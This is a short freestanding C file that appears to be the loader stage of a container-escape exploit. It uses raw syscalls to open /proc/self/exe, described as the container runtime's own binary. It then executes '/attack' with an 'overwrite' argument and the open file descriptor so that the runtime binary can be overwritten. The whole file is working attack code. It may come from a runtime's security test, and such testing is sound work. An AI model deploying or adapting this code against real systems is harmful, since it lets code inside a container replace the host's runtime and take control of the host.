/* A program loader of an image, for a runtime that is started inside by `#!/proc/self/exe`: keeps the runtime's program
 * open, and becomes a program that writes to it. Without any library, as it takes the loader's place before there is one.
 */
static long call(long nr, long a, long b, long c) {
    long got;
    __asm__ volatile("syscall" : "=a"(got) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return got;
}

void _start(void) {
    static char number[4];
    long fd = call(2 /* open */, (long)"/proc/self/exe", 0, 0);
    if (fd >= 0 && fd < 10) {
        number[0] = '0' + fd;
        char *argv[] = {"attack", "overwrite", number, 0}, *envp[] = {0};
        call(59 /* execve */, (long)"/attack", (long)argv, (long)envp);
    }
    call(231 /* exit_group */, 99, 0, 0);
}
